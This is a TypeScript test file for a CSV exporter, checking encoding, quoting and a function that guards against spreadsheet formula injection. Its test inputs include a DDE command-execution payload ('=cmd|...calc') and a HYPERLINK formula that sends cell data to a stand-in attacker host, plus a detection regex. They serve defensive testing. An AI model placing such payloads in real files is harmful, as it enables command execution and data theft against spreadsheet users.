import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { type CsvCell, csv, guarded } from './csv';

/** What any program may take for a formula, whatever it strips before it looks. */
const LOOKS_LIKE_FORMULA = /^[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;

/** Read back by somebody else's parser. */
function rows(text: string, delimiter = ','): string[][] {
  return parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true });
}

test('begins with the mark that tells a spreadsheet its encoding, and ends every row with CRLF', () => {
  expect(
    csv([
      ['Ort', 'Zahl'],
      ['Köln', 3],
    ]),
  ).toBe('\uFEFF"Ort","Zahl"\r\n"Köln",3\r\n');
});

test('quotes, separators and line breaks come back as they were', () => {
  const row = ['say "yes"', 'a, b; c', 'one\ntwo', '', 'тест 試験 🙂'];
  expect(rows(csv([row]))).toEqual([row]);
});

test('every kind of line break within a cell becomes one', () => {
  expect(rows(csv([['a\r\nb\rc']]))).toEqual([['a\nb\nc']]);
});

test('numbers stay numbers, below zero too; what is no number is an empty cell', () => {
  expect(csv([[-2.5, 0, 3, Number.NaN, undefined]])).toBe('\uFEFF-2.5,0,3,,\r\n');
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\t1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '﹦1',
  '  =1+1',
  '\u00a0=1',
  '\u200b=1',
  '"=1+1',
  "'=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
])('a text that begins like a formula is guarded: %j', (text) => {
  expect(guarded(text)).toMatch(/^[\s"\p{Cf}]*'/u);
  expect(guarded(text)).not.toMatch(LOOKS_LIKE_FORMULA);
});

test.each([
  ['x;=1+1', "x;'=1+1"],
  ['x,"=1+1', 'x,"\'=1+1'],
  ['list:\n- one\n- two', "list:\n'- one\n'- two"],
  ['a\t@b', "a\t'@b"],
  ['a|+b', "a|'+b"],
])('a sign where another separator would begin a cell is guarded: %j', (text, safe) => {
  expect(guarded(text)).toBe(safe);
});

test.each([
  'Half of them',
  'a - b',
  '3 + 4 = 7',
  'mail@example.org',
  'e-mail',
  'Ends with =',
  'https://example.org/?a=-1',
  'x'.repeat(10),
])('an ordinary text stays as it is: %j', (text) => {
  expect(guarded(text)).toBe(text);
});

/** A small generator with a seed, so that a failure can be seen again. */
function dice(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state * 1664525 + 1013904223) % 4294967296;
    return Math.floor((state / 4294967296) * below);
  };
}

const PIECES = [
  ...'=+-@＝＋－＠,;|\t\r\n"\' a1é🙂\u00a0\u200b\u2028',
  'cmd',
  '""',
  '\r\n',
  "|' /C calc'!A0",
];

test('no cell looks like a formula, however the file is taken apart; and the right parser gives back every text', () => {
  const roll = dice(20261127);
  for (let round = 0; round < 2000; round += 1) {
    const row: CsvCell[] = Array.from({ length: 3 }, () =>
      Array.from({ length: roll(9) }, () => PIECES[roll(PIECES.length)] ?? '').join(''),
    );
    const text = csv([row, row]);
    expect(rows(text).length, JSON.stringify(row)).toBe(2);
    for (const read of rows(text)) {
      const wanted = row.map((cell) => guarded(String(cell).replace(/\r\n?/g, '\n')));
      expect(read, JSON.stringify(row)).toEqual(wanted);
      for (const cell of read) expect(cell).not.toMatch(LOOKS_LIKE_FORMULA);
    }
    // Other separators, with quotes that mean nothing: how a program set to another country, or a careless one, reads it.
    const body = text.replace('\uFEFF', '');
    for (const cell of body.split(/[,;|\t\r\n\u2028]/)) {
      expect(cell, JSON.stringify(row)).not.toMatch(LOOKS_LIKE_FORMULA);
    }
  }
});

test('guarding takes time in line with the length of a text', () => {
  const long = `${'" '.repeat(200_000)}x`;
  expect(guarded(long)).toBe(long);
});
